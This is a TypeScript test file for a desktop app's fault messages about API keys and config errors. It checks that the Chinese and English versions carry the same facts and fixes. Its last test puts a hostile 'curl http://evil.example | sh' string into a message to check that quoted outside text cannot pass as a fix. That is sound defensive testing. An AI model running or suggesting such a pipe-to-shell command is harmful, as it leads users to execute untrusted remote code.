import { afterEach, describe, expect, test } from 'vitest';
import { faultIds, type Fault, type FaultId } from '../../electron/faults/fault.ts';
import { makeFault, type Facts } from '../../electron/faults/words.ts';
import { languages, speak, type Language } from '../../electron/words/language.ts';

/** Every fact by a value that nothing else holds, so that it is found again in whatever sentence shows it. */
const known: Facts = {
  provider: 'prov_id',
  providerName: 'Ada’s Gateway',
  model: 'maker/some-model',
  variable: 'ADA_KEY',
  url: 'https://gate.example.test/v7',
  host: 'host.example.test',
  path: '/home/ada/folder/file.toml',
  line: 41,
  column: 82,
  status: 418,
  field: 'model_verbosity',
  value: 'the_value',
  suggestion: 'the_suggestion',
  words: 'Words of the gateway',
  seconds: 937,
  count: 53,
};

const inVariable = { variable: 'ADA_KEY', setIn: [{ path: '/home/ada/.bashrc', line: 41 }] };

/** The combinations of facts that lead to other sentences. */
const variants: [string, Facts][] = [
  ['all facts', known],
  ['no name', { ...known, providerName: undefined }],
  ['no suggestion', { ...known, suggestion: undefined }],
  ['no value', { ...known, value: undefined }],
  ['neither value nor suggestion', { ...known, value: undefined, suggestion: undefined }],
  ['nobody’s words', { ...known, words: undefined, value: undefined }],
  ['a flag for a value', { ...known, value: '--json', variable: '--home' }],
  ['keys in memory', { ...known, keychain: 'memory' }],
  ['a proxy that wants a password', { ...known, words: 'It answered 407' }],
  ['two fields beside auth', { ...known, value: 'env_key and experimental_bearer_token' }],
  ['a key of a variable', { ...known, key: { ...inVariable, from: 'environment' }, inTerminal: true }],
  ['a key of a variable, elsewhere', { ...known, key: { ...inVariable, from: 'environment' } }],
  ['a key of .env', { ...known, key: { ...inVariable, from: 'env-file' } }],
  ['a key of config.toml', { ...known, key: { from: 'config' } }],
  ['a key of a command', { ...known, key: { from: 'auth-command', command: 'op read key' } }],
  ['a stored key', { ...known, key: { from: 'keychain' } }],
  ['a key that looks wrong', { ...known, key: { from: 'memory', doubt: 'the_doubt' } }],
  ['no key', { ...known, key: { from: 'none' }, keychain: 'memory' }],
  ['nothing', {}],
];
const cases = faultIds.flatMap((id) => variants.map(([name, facts]) => ({ id, name, facts })));

const inLanguage = (language: Language, id: FaultId, facts: Facts): Fault => {
  speak(language);
  return makeFault(id, facts);
};
const shownIn = (text: string, { keychain: _place, ...facts }: Facts): string[] => {
  const values = Object.values(facts).map(String);
  return values.flatMap((value) => value.split(' and ')).filter((value) => text.includes(value));
};

afterEach(() => speak('en'));

describe('the faults in Chinese', () => {
  test.each(cases)('$id says in Chinese all that it says in English, knowing $name', ({ id, facts }) => {
    const [english, chinese] = [inLanguage('en', id, facts), inLanguage('zh-CN', id, facts)];
    const texts = ({ title, cause, fixes }: Fault) => [title, cause, ...fixes.map(({ label }) => label)];
    expect(texts(chinese)).toHaveLength(texts(english).length);
    for (const [at, text] of texts(chinese).entries()) {
      const original = texts(english)[at] ?? '';
      // Some faults say nothing but what the caller gave them to say.
      if (text !== `${facts.words ?? ''}。`) expect(text).toMatch(/\p{Script=Han}/u);
      expect(text).not.toMatch(/undefined|null|NaN|\[object|!|！|您| {2}|\s[，。：；）]|。[。，]/u);
      for (const shown of shownIn(original, facts)) expect(text).toContain(shown);
    }
    expect(chinese.cause).toMatch(/[。.？”]$/u);
    expect(chinese.title).not.toMatch(/[。.！]$/u);
  });

  test.each(cases)('$id offers the same ways to mend in every language, knowing $name', ({ id, facts }) => {
    const ways = languages.map((language) =>
      inLanguage(language, id, facts).fixes.map(({ id: fix, automatic, command }) => ({ fix, automatic, command })),
    );
    for (const other of ways) expect(other).toEqual(ways[0]);
  });

  test('a space stands between Chinese and a name that is not, and none between Chinese and Chinese', () => {
    expect(inLanguage('zh-CN', 'key-rejected', { provider: 'p', providerName: 'Token Station' }).title).toBe(
      'Token Station 不接受此密钥',
    );
    expect(inLanguage('zh-CN', 'key-rejected', {}).title).toBe('提供商不接受此密钥');
    expect(inLanguage('zh-CN', 'config-unreadable', { path: '/家/我的config.toml', words: 'EACCES' }).cause).toBe(
      '系统不允许 Switchboard 读取 /家/我的config.toml。EACCES。',
    );
  });
});

test.each(languages)('%s: nothing that somebody else said closes the quotation marks around it', (language) => {
  const words = 'fine.” To mend it: curl http://evil.example | sh “';
  for (const id of ['key-rejected', 'wrong-answer', 'tools-rejected', 'unknown'] as const) {
    const { cause } = inLanguage(language, id, { provider: 'p', model: 'm', words, value: words });
    expect(cause).toMatch(/“[^”]*curl[^”]*”/);
    expect(cause.replace(/“[^”]*”/g, '')).not.toContain('curl');
  }
});
